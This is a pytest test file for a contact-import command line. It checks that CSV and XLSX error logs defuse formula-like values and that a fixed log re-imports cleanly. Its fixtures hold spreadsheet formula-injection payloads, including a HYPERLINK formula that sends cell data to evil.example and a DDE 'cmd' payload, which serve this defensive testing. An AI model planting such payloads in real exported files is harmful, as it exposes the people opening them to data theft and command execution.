"""Issue 8, error logs through the command line: formula-like values are neutralised and every
other value is written exactly as it was in the file; a fixed error log (CSV or XLSX) imports to
exactly the state that importing the fixed original file gives.

The oracle for "re-importing works" is the same command run on the original file with the same
fix: whatever cleaning the import applies, both paths must end identically.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pytest

from ingest_gui import cli
from ingest_gui.sandbox.server import SandboxServer
from tests.import_helpers import CONTACT_HEADERS, CONTACT_MAP, run_cli, write_csv

#: First names and plans that start like formulas, plus text that must survive untouched.
TRICKY_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3",
    "=1+1",
    "'til dawn",
    "'=already quoted",
    "Ñandú 😀 “quoted” ; semi",
    'He said "hi", twice',
    "#N/A",
]
TRICKY_PLANS = ["-12,5", "+34 600 000 000", "=A1", "plain", "-", "+", "@", "1e5", "50%", ""]


def original_rows() -> list[list[str]]:
    """Ten rows with a bad email (left out, to be fixed) around healthy ones."""
    rows = []
    for n in range(30):
        name, plan = f"Name{n}", f"plan-{n % 3}"
        email = f"user{n}@example.com"
        if n % 3 == 1:
            name, plan = TRICKY_NAMES[n // 3], TRICKY_PLANS[n // 3]
            email = f"user{n}(at)example.com"
        rows.append([f"C{n:03d}", name, email, f"6{n:08d}", "España", plan])
    return rows


def fixed(email: str) -> str:
    return email.replace("(at)", "@")


#: What a CSV error log must hold instead of these values (a spreadsheet program would run
#: them); every other value, numbers and phones with a sign included, is written unchanged.
CSV_NEUTRALISED = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")':
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "@SUM(A1:A9)": "'@SUM(A1:A9)",
    "-2+3": "'-2+3",
    "=1+1": "'=1+1",
    "'=already quoted": "''=already quoted",  # so the re-import can tell ours from theirs
    "=A1": "'=A1",
    "@": "'@",
}


def import_file(capsys: pytest.CaptureFixture[str], sandbox: SandboxServer, path: Path,
                *extra: str) -> tuple[int, str]:
    code, _out, err = run_cli(capsys, "import", str(path), "--kind", "contacts",
                              "--sandbox", sandbox.base_url, *CONTACT_MAP, *extra)
    return code, err


def state_from_the_fixed_original(capsys: pytest.CaptureFixture[str], sandbox: SandboxServer,
                                  tmp_path: Path) -> dict[str, Any]:
    sandbox.reset()
    rows = [[*row[:2], fixed(row[2]), *row[3:]] for row in original_rows()]
    path = write_csv(tmp_path / "fixed-original.csv", CONTACT_HEADERS, rows)
    code, err = import_file(capsys, sandbox, path)
    assert code == cli.EXIT_OK, err
    contacts: dict[str, Any] = sandbox.state()["contacts"]
    return contacts


def test_a_csv_error_log_neutralises_formulas_keeps_the_rest_and_reimports(
    tmp_path: Path, sandbox: SandboxServer, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = original_rows()
    source = write_csv(tmp_path / "customers.csv", CONTACT_HEADERS, rows)
    log = tmp_path / "customers-errors.csv"
    code, err = import_file(capsys, sandbox, source, "--error-log", str(log))
    # The bad e-mails are left out, their rows sent; the log lists them to fix.
    assert code == cli.EXIT_OK, err
    assert "Invalid values left out, the rest of their rows kept: 10" in err

    raw = log.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    with log.open(encoding="utf-8-sig", newline="") as handle:
        logged = list(csv.reader(handle))
    header, lines = logged[0], logged[1:]
    assert header == [*CONTACT_HEADERS, "Row", "Errors"]
    bad = [row for row in rows if "(at)" in row[2]]
    assert [line[-2] for line in lines] == [str(rows.index(row) + 2) for row in bad]
    for line, row in zip(lines, bad, strict=True):
        for logged_value, value in zip(line[:-2], row, strict=True):
            assert logged_value == CSV_NEUTRALISED.get(value, value), (row[0], value)
    # The dangerous ones really are defused, and nothing else gained an apostrophe.
    assert "'=HYPERLINK(" in raw.decode("utf-8-sig")
    assert "'+cmd|" in raw.decode("utf-8-sig")
    assert "'-12,5" not in raw.decode("utf-8-sig")

    # Fix the emails in the log (as a person would in Excel) and import the log itself.
    fixed_lines = [[*line[:2], fixed(line[2]), *line[3:]] for line in lines]
    with log.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, lineterminator="\r\n").writerows([header, *fixed_lines])
    code, err = import_file(capsys, sandbox, log)
    assert code == cli.EXIT_OK, err
    through_the_log = sandbox.state()["contacts"]

    expected = state_from_the_fixed_original(capsys, sandbox, tmp_path)
    assert through_the_log == expected
    names = {contact.get("_first_name") for contact in expected.values()}
    assert {'=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
            "'til dawn", "'=already quoted"} <= names


def test_an_xlsx_error_log_keeps_every_value_as_text_and_reimports(
    tmp_path: Path, sandbox: SandboxServer, capsys: pytest.CaptureFixture[str]
) -> None:
    from openpyxl import load_workbook

    rows = original_rows()
    source = write_csv(tmp_path / "customers.csv", CONTACT_HEADERS, rows)
    log = tmp_path / "customers-errors.xlsx"
    code, err = import_file(capsys, sandbox, source, "--error-log", str(log))
    # The bad e-mails are left out, their rows sent; the log lists them to fix.
    assert code == cli.EXIT_OK, err
    assert "Invalid values left out, the rest of their rows kept: 10" in err

    workbook = load_workbook(log)
    sheet = workbook.active
    assert sheet is not None
    lines = list(sheet.iter_rows(min_row=2))
    bad = [row for row in rows if "(at)" in row[2]]
    assert len(lines) == len(bad)
    for cells, row in zip(lines, bad, strict=True):
        for cell, value in zip(cells[: len(CONTACT_HEADERS)], row, strict=True):
            if value == "":
                assert cell.value is None
                continue
            # Text, never a formula, and exactly the file's characters.
            assert cell.data_type == "s", (row[0], value)
            assert cell.value == value, (row[0], value)
        cells[2].value = fixed(str(cells[2].value))
    workbook.save(log)
    workbook.close()

    code, err = import_file(capsys, sandbox, log)
    assert code == cli.EXIT_OK, err
    through_the_log = sandbox.state()["contacts"]
    assert through_the_log == state_from_the_fixed_original(capsys, sandbox, tmp_path)
